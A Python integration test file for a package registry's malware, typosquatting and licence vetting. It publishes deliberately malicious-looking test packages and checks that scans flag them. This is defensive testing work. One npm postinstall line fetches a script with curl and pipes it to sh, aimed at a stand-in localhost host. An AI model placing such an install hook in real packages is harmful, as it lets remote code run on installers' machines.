"""Vetting through a real server: twine and npm publish hand-made malicious-looking packages; the background scans
record malware, licence and typosquatting results; the security overview API and pages show them."""

from __future__ import annotations

import shutil
from pathlib import Path
import time
from typing import Any

import pytest

from tests.conftest import unique
from tests.support.artifacts import make_sdist, make_wheel
from tests.support.clients import twine_upload
from tests.support.npm_clients import NpmClient, make_project
from tests.support.server import WharfServer
from tests.unit.vetting.samples import EXFIL_JS, EXFIL_PY, OBFUSCATED, SETUP_NETWORK


def wait_scanned(server: Any, repo: str, name: str, timeout: float = 60) -> dict[str, Any]:
    """The package's security document once its newest version has a result from every analyzer that covers every
    one of its files (the wheel's scan may finish before the sdist is uploaded)."""
    deadline = time.monotonic() + timeout
    doc: dict[str, Any] = {}
    while time.monotonic() < deadline:
        r = server.api("GET", f"/api/v1/security/packages/{repo}/{name}")
        if r.status_code == 200:
            doc = r.json()
            latest = doc["versions"][0]
            if latest["scanned"] and not latest["missing_analyzers"] and not latest["unscanned_files"]:
                return doc
        time.sleep(0.2)
    raise AssertionError(f"{name} in {repo} was not scanned in {timeout} s: {doc}")


def test_twine_upload_of_malicious_and_look_alike_packages(server, tmp_path):
    repo = unique("vet")
    server.create_repo(repo)
    url = f"{server.url}/{repo}/legacy/"
    evil = [make_wheel(tmp_path, "acme-tools", "1.0", module_code=OBFUSCATED,
                       metadata_fields={"Metadata-Version": "2.4", "License-Expression": "MIT"},
                       extra_files={"acme_tools/steal.py": EXFIL_PY.encode()}),
            make_sdist(tmp_path, "acme-tools", "1.0", extra_files={"setup.py": SETUP_NETWORK.encode()},
                       metadata_fields={"License": "Apache License, Version 2.0"})]
    assert twine_upload(tmp_path, url, evil, token=server.token).ok
    doc = wait_scanned(server, repo, "acme-tools")
    latest = doc["versions"][0]
    assert latest["status"]["malware"] == "fail" and latest["max_severity"] == "critical"
    rules = {(f["rule"], f["file"].split("!")[-1], f["line"]) for f in latest["findings"]["malware"]}
    assert ("wharf_obfuscated_exec", "acme_tools/__init__.py", 4) in rules
    assert ("wharf_install_time_network", "acme_tools-1.0/setup.py", 4) in rules
    assert any(r[0] == "wharf_credential_exfiltration" and r[1] == "acme_tools/steal.py" for r in rules)
    assert latest["summary"]["licence"]["licence"] in ("MIT", "Apache-2.0")

    # a look-alike of a name the repository already holds, and of a popular one
    look = make_wheel(tmp_path, "acme-tols", "1.0")
    assert twine_upload(tmp_path, url, [look], token=server.token).ok
    squat = wait_scanned(server, repo, "acme-tols")["versions"][0]
    assert squat["status"]["typosquat"] == "warn"
    assert squat["summary"]["typosquat"] == {"typosquat": True, "typosquat_of": ["acme-tools"]}
    assert squat["findings"]["typosquat"][0]["kind"] == "omitted"

    ov = server.api("GET", f"/api/v1/security/overview?repository={repo}").json()
    assert ov["versions"] == {"total": 2, "scanned": 2, "not_scanned": 0}
    assert ov["by_analyzer"]["malware"] == {"fail": 1, "pass": 1}
    assert ov["max_severity"] == "critical"
    assert {p["name"] for p in ov["packages"]} == {"acme-tools", "acme-tols"}

    page = server.client().get(f"/ui/-/security/{repo}/acme-tools/")
    assert page.status_code == 200 and "wharf_obfuscated_exec" in page.text and "acme_tools/__init__.py:4" in page.text
    assert "acme-tools" in server.client().get(f"/ui/-/security/{repo}/").text
    assert repo in server.client().get("/ui/-/security/").text


@pytest.mark.skipif(shutil.which("npm") is None, reason="npm is not installed")
def test_npm_publish_with_install_script_and_exfiltration(sqlite_server, tmp_path):
    server = sqlite_server
    repo = unique("vetnpm")
    server.create_repo(repo, format="npm")
    npm = NpmClient(tmp_path, f"{server.url}/{repo}/", server.token)
    project = make_project(tmp_path / "src", "evil-widget", "1.0.0", files={"steal.js": EXFIL_JS},
                           extra={"scripts": {"postinstall": "curl -s http://127.0.0.1:9/x.sh | sh"}, "license": "ISC"})
    (project / "LICENSE").write_text("ISC\n")
    assert npm.run("publish", cwd=project).ok
    latest = wait_scanned(server, repo, "evil-widget")["versions"][0]
    rules = {(f["rule"], f["file"]) for f in latest["findings"]["malware"]}
    assert ("wharf_npm_install_script_fetch", "package/package.json") in rules
    assert ("wharf_credential_exfiltration", "package/steal.js") in rules
    assert latest["summary"]["licence"] == {"licence": "ISC", "licence_raw": "ISC", "licence_files": ["package/LICENSE"]}


def test_private_repository_needs_read_access(sqlite_server, tmp_path):
    server = sqlite_server
    repo = unique("vetpriv")
    server.create_repo(repo, private=True)
    assert server.api("GET", f"/api/v1/security/overview?repository={repo}", token=None).status_code == 401
    other = server.create_token(unique("t"), {"elsewhere": ["read"]})
    assert server.api("GET", f"/api/v1/security/overview?repository={repo}", token=other).status_code == 403
    assert server.api("GET", f"/api/v1/security/overview?repository={repo}").status_code == 200
    assert server.api("GET", f"/api/v1/security/packages/{repo}/nothing").status_code == 404
    listing = server.api("GET", "/api/v1/security/overview", token=None).json()
    assert repo not in {r["repository"] for r in listing["repositories"]}
    assert server.client(token=None).get(f"/ui/-/security/{repo}/").status_code == 401
    # a rescan needs admin on the repository
    assert server.api("POST", f"/api/v1/security/packages/{repo}/x/1.0/scan", token=other).status_code == 403


def test_vetting_off_scans_nothing(tmp_path):
    with WharfServer(tmp_path / "data", env={"WHARF_VETTING": "0"}) as server:
        repo = unique("vetoff")
        server.create_repo(repo)
        wheel = make_wheel(tmp_path, "plain", "1.0", module_code=OBFUSCATED)
        assert twine_upload(tmp_path, f"{server.url}/{repo}/legacy/", [wheel], token=server.token).ok
        time.sleep(1.5)  # the worker would have picked a scan up by now
        ov = server.api("GET", f"/api/v1/security/overview?repository={repo}").json()
        assert ov["vetting"] is False and ov["versions"] == {"total": 1, "scanned": 0, "not_scanned": 1}
        assert server.api("GET", "/api/v1/tasks").json() == []
        # an explicit rescan still works
        res = server.api("POST", f"/api/v1/security/packages/{repo}/plain/1.0/scan").json()
        assert res["results"]["malware"]["status"] == "fail"


def test_packages_fetched_through_a_proxy_are_vetted(sqlite_server, tmp_path):
    from tests.support.artifacts import wheel_bytes
    from tests.support.clients import pip_install
    from tests.support.fake_upstream import FakeUpstream

    server = sqlite_server
    up = FakeUpstream().start()
    try:
        up.project("reqeusts", {"reqeusts-1.0-py3-none-any.whl": wheel_bytes("reqeusts", "1.0", module_code=OBFUSCATED)})
        repo = unique("vetproxy")
        r = server.api("POST", "/api/v1/repositories", json={"name": repo, "format": "python", "kind": "proxy",
                                                             "config": {"upstream": {"url": f"{up.url}/simple/"}}})
        assert r.status_code == 201, r.text
        assert pip_install(tmp_path, f"{server.url}/{repo}/simple/", "reqeusts", target=tmp_path / "t").ok
        latest = wait_scanned(server, repo, "reqeusts")["versions"][0]
    finally:
        up.stop()
    assert latest["status"]["malware"] == "fail"
    assert any(f["similar_to"] == "requests" and f["source"] == "popular" for f in latest["findings"]["typosquat"])


def test_cli_overview_show_and_scan(sqlite_server, tmp_path):
    import subprocess
    import sys

    server = sqlite_server
    repo = unique("vetcli")
    server.create_repo(repo)
    wheel = make_wheel(tmp_path, "cli-demo", "1.0", module_code=OBFUSCATED)
    assert twine_upload(tmp_path, f"{server.url}/{repo}/legacy/", [wheel], token=server.token).ok
    wait_scanned(server, repo, "cli-demo")
    wharf = [str(Path(sys.executable).parent / "wharf")]
    env = {"WHARF_URL": server.url, "WHARF_TOKEN": server.token, "PATH": "/usr/bin:/bin", "COLUMNS": "200"}

    def run(*args: str) -> str:
        p = subprocess.run(wharf + ["security", *args], env=env, capture_output=True, text=True, timeout=60)
        assert p.returncode == 0, p.stdout + p.stderr
        return p.stdout

    assert "cli-demo" in run("overview", repo) and "1/1 versions scanned" in run("overview", repo)
    out = run("show", f"{repo}/cli-demo")
    assert "wharf_obfuscated_exec" in out and "cli_demo/__init__.py:4" in out
    assert '"malware": "fail"' in run("scan", f"{repo}/cli-demo@1.0")
